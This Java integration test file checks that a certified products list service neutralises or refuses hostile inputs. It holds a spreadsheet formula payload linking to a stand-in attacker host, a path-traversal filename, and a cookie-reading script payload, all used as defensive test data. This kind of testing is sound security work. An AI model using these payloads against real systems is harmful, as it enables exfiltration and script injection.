package uk.secgov.cpl;

import static org.assertj.core.api.Assertions.assertThat;
import static uk.secgov.cpl.FormFixtures.csv;
import static uk.secgov.cpl.FormFixtures.esme;
import static uk.secgov.cpl.FormFixtures.with;

import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.awaitility.Awaitility;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import uk.secgov.it.Api;
import uk.secgov.it.Deployments;

/**
 * The hostile review's CPL inputs (issue 11): a formula accepted through review reaches the public CSV
 * as text; a withdrawal without a reason, a 1 MB delegation rationale, a control character and an
 * uploaded HTML page are refused or served harmlessly, over HTTP, and nothing is stored.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class CplHostileInputIT {

    private static final String SUBMISSIONS = "api/v1/cpl/submissions";
    private static IkiFixture pki;

    @Deployment(testable = false)
    static WebArchive war() {
        return Deployments.realWar();
    }

    @ArquillianResource
    URL base;

    @BeforeEach
    void aTestIkiOnTheServer() throws Exception {
        if (pki == null) {
            pki = IkiFixture.registered(base);
        }
    }

    private static String newModel() {
        return UUID.randomUUID().toString().replace("-", "").substring(0, 8).toUpperCase();
    }

    private static String newHash() {
        return (UUID.randomUUID().toString() + UUID.randomUUID()).replace("-", "");
    }

    private static List<String> fields(Api.Reply reply) {
        assertThat(reply.contentType()).startsWith("application/problem+json");
        return reply.json().getJsonArray("errors").stream().map(e -> e.asJsonObject().getString("field")).toList();
    }

    private String submit(String user, byte[] form, byte[] signature) {
        Api.Reply reply = Api.demo(base, user).postMultipart(SUBMISSIONS, Map.of("form", form, "signature", signature));
        assertThat(reply.status()).as(reply.body()).isEqualTo(202);
        return reply.json().getString("reference");
    }

    private JsonObject awaitStatus(String user, String reference, String status) {
        Api api = Api.demo(base, user);
        JsonObject[] last = new JsonObject[1];
        Awaitility.await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(300)).until(() -> {
            Api.Reply reply = api.get(SUBMISSIONS + "/" + reference);
            last[0] = reply.status() == 200 ? reply.json() : null;
            return last[0] != null && status.equals(last[0].getString("status"));
        });
        return last[0];
    }

    private void complete(String user, String reference, String taskName, String fields) {
        Api api = Api.demo(base, user);
        String task = Awaitility.await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(300))
                .until(() -> api.openTask(reference, taskName), java.util.Optional::isPresent).orElseThrow();
        Api.Reply done = api.post("api/v1/tasks/" + task + "/complete", fields);
        assertThat(done.status()).as(done.body()).isEqualTo(204);
    }

    /** Associated through SECAS's review and the Panel's decision, as any accepted row. */
    private String associated(String user, byte[] form, byte[] signature) {
        String reference = submit(user, form, signature);
        awaitStatus(user, reference, "AWAITING_REVIEW");
        complete("secas", reference, "SECAS review", "{\"row2\":\"associate\",\"reason2\":\"Signed, no current Hash\"}");
        complete("panel", reference, "Panel decision", "{\"row2\":\"associate\",\"reason2\":\"As recommended\"}");
        awaitStatus(user, reference, "COMPLETED");
        return reference;
    }

    private long partyId(String name) {
        return Api.demo(base, "admin").get("api/v1/parties?size=500").json().getJsonArray("items").stream()
                .map(JsonValue::asJsonObject).filter(p -> name.equals(p.getString("name"))).findFirst().orElseThrow()
                .getJsonNumber("id").longValue();
    }

    @Test
    void aFormulaAcceptedThroughReviewIsExportedAsText() throws Exception {
        String model = newModel();
        String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")";
        String cpa = "+CPA-" + model;
        byte[] form = csv(with(with(with(esme("38040404", newHash()), FormColumn.MODEL_ID, model),
                FormColumn.MODEL_NAME, formula), FormColumn.CPA_CERTIFICATE, cpa));
        associated("supplier", form, pki.countersign(form, pki.maker, pki.bright));

        String export = Api.anonymous(base).get("api/v1/cpl/export.csv", "text/csv").body();

        String line = export.lines().filter(l -> l.contains(model)).findFirst().orElseThrow();
        assertThat(line).contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\"")
                .contains(",'" + cpa + ",").doesNotContain(",=").doesNotContain(",\"=").doesNotContain(",+");
        // The API still gives the values as recorded: only the spreadsheet file is neutralised.
        JsonObject entry = Api.anonymous(base).get("api/v1/cpl/entries?q=" + model.toLowerCase()).json()
                .getJsonArray("items").getJsonObject(0);
        assertThat(entry.getString("modelName")).isEqualTo(formula);
    }

    @Test
    void aWithdrawalNeedsAReason() throws Exception {
        byte[] form = csv(with(esme("38040404", newHash()), FormColumn.MODEL_ID, newModel()));
        String reference = submit("supplier", form, pki.sign(form, pki.maker, pki.bright));
        awaitStatus("supplier", reference, "AWAITING_REVIEW");
        Api supplier = Api.demo(base, "supplier");

        Api.Reply empty = supplier.post(SUBMISSIONS + "/" + reference + "/withdraw", "{}");
        Api.Reply blank = supplier.post(SUBMISSIONS + "/" + reference + "/withdraw", "{\"reason\":\"  \"}");
        Api.Reply bell = supplier.post(SUBMISSIONS + "/" + reference + "/withdraw", "{\"reason\":\"Oops\\u0007\"}");

        assertThat(empty.status()).as(empty.body()).isEqualTo(400);
        assertThat(fields(empty)).containsExactly("reason");
        assertThat(fields(blank)).containsExactly("reason");
        assertThat(fields(bell)).containsExactly("reason");
        assertThat(supplier.get(SUBMISSIONS + "/" + reference).json().getString("status")).isEqualTo("AWAITING_REVIEW");
        assertThat(supplier.post(SUBMISSIONS + "/" + reference + "/withdraw", "{\"reason\":\"Wrong file\"}").status())
                .isEqualTo(200);
    }

    @Test
    void aMegabyteRationaleOrAControlCharacterChangesNoDelegation() {
        Api panel = Api.demo(base, "panel");
        String before = panel.get("api/v1/cpl/panel-delegation").body();

        Api.Reply huge = panel.post("api/v1/cpl/panel-delegation",
                "{\"delegated\":true,\"rationale\":\"" + "x".repeat(1024 * 1024) + "\"}");
        Api.Reply nul = panel.post("api/v1/cpl/panel-delegation",
                "{\"delegated\":true,\"rationale\":\"Minute 7\\u0000\"}");

        assertThat(huge.status()).as(huge.body()).isEqualTo(400);
        assertThat(fields(huge)).containsExactly("rationale");
        assertThat(huge.body()).contains("at most 4000 characters");
        assertThat(nul.status()).as(nul.body()).isEqualTo(400);
        assertThat(fields(nul)).containsExactly("rationale");
        assertThat(panel.get("api/v1/cpl/panel-delegation").body()).isEqualTo(before);
    }

    @Test
    void uploadedEvidenceIsServedAsAnAttachmentTheProductTypesNotAsTheUploadersPage() throws Exception {
        // A current Hash from Volt Supply, then Bright Energy's different Hash: a conflict to investigate.
        String model = newModel();
        byte[] first = csv(with(esme("38040404", newHash()), FormColumn.MODEL_ID, model));
        associated("supplier2", first, pki.sign(first, pki.maker, pki.volt));
        byte[] second = csv(with(esme("38040404", newHash()), FormColumn.MODEL_ID, model));
        String conflicting = submit("supplier", second, pki.countersign(second, pki.maker, pki.bright));
        awaitStatus("secas", conflicting, "UNDER_INVESTIGATION");
        Api secas = Api.demo(base, "secas");
        long entryId = Api.anonymous(base).get("api/v1/cpl/entries?q=" + model.toLowerCase()).json()
                .getJsonArray("items").getJsonObject(0).getJsonNumber("entryId").longValue();
        String investigation = Awaitility.await().atMost(Duration.ofSeconds(60)).until(() ->
                secas.get("api/v1/cpl/investigations?size=500").json().getJsonArray("items").stream()
                        .map(JsonValue::asJsonObject).filter(i -> i.getJsonNumber("entryId").longValue() == entryId)
                        .map(i -> i.getString("reference")).findFirst().orElse(null), r -> r != null);
        complete("secas", investigation, "Open the investigation", "{\"note\":\"Two Hashes\"}");
        Api.Reply asked = secas.post("api/v1/cpl/investigations/" + investigation + "/requests",
                "{\"partyId\":" + partyId("Volt Supply") + ",\"question\":\"Where did the Hash come from?\",\"workingDays\":5}");
        assertThat(asked.status()).as(asked.body()).isEqualTo(201);
        String answerPath = "api/v1/cpl/investigations/" + investigation + "/requests/"
                + asked.json().getJsonNumber("id").longValue() + "/answer";
        Api volt = Api.demo(base, "supplier2");
        Api.Part page = new Api.Part("evidence", "../../tmp/evil<script>.html", "text/html",
                "<script>alert(document.cookie)</script>".getBytes(StandardCharsets.UTF_8));

        Api.Reply bell = volt.postParts(answerPath, List.of(new Api.Part("answer", null, "text/plain; charset=UTF-8",
                "From the notes\u0007".getBytes(StandardCharsets.UTF_8)), page));
        assertThat(bell.status()).as(bell.body()).isEqualTo(400);
        assertThat(fields(bell)).containsExactly("answer");
        Api.Reply answered = volt.postParts(answerPath, List.of(new Api.Part("answer", null,
                "text/plain; charset=UTF-8", "From the release notes".getBytes(StandardCharsets.UTF_8)), page));
        assertThat(answered.status()).as(answered.body()).isEqualTo(204);

        Api.Reply evidence = secas.get(answerPath.replace("/answer", "/evidence"), "*/*");
        assertThat(evidence.status()).isEqualTo(200);
        assertThat(evidence.contentType()).isEqualTo("application/octet-stream");
        assertThat(evidence.header("Content-Disposition")).isEqualTo("attachment; filename=\"evil_script_.html\"");
        assertThat(evidence.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(evidence.header("Cache-Control")).isEqualTo("no-store");
    }
}
